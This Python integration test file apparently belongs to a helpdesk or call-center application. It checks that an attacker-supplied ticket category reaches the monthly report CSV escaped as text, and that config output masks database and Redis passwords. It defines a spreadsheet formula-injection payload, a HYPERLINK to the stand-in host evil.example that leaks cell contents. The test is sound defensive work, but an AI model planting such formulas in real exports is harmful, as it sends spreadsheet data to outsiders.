"""What leaves the desk as files and printouts (#14): a category an attacker typed
reaches the monthly report's CSV as text, not a live formula; `callcenter config` and
config errors never print the database's or Redis's password."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.integration.harness import Server

pytestmark = pytest.mark.sip  # a real `callcenter serve`, pjsua2 included

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


async def test_a_formula_category_reaches_the_report_csv_as_text(tmp_path: Path) -> None:
    server = Server(f"sqlite+aiosqlite:///{tmp_path / 'callcenter.db'}", tmp_path)
    await server.prepare()
    async with server.running():
        token = await server.login("alice", "alice-demo")
        status, ticket = await server.request(
            "POST",
            "/api/v1/tickets",
            token,
            {"subject": "printer jam", "employee": "zhangsanKJC", "category": FORMULA},
        )
        assert status == 201, ticket
    month = datetime.now(UTC).strftime("%Y-%m")
    done = server.cli("report", "--org", "Demo Corp", "--month", month, "--out", "report")
    assert done.returncode == 0, done.stderr
    with (tmp_path / "report" / "requests_per_category.csv").open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells  # never a cell that starts with "="


def test_no_printout_shows_a_database_or_redis_password(tmp_path: Path) -> None:
    server = Server("postgresql+asyncpg://desk:s3cret-db@db.example/desk", tmp_path)
    server.extra_env["CALLCENTER_REDIS_URL"] = "redis://:s3cret-redis@cache.example:6379/0"
    shown = server.cli("config")
    assert shown.returncode == 0, shown.stderr
    assert "s3cret" not in shown.stdout + shown.stderr
    assert "postgresql+asyncpg://desk:***@db.example/desk" in shown.stdout
    server.extra_env["CALLCENTER_DATABASE_URL"] = "mysql://desk:s3cret-db@db.example/desk"
    refused = server.cli("config")
    assert refused.returncode == 2
    assert "s3cret" not in refused.stdout + refused.stderr
    assert "mysql://desk:***@db.example/desk" in refused.stderr
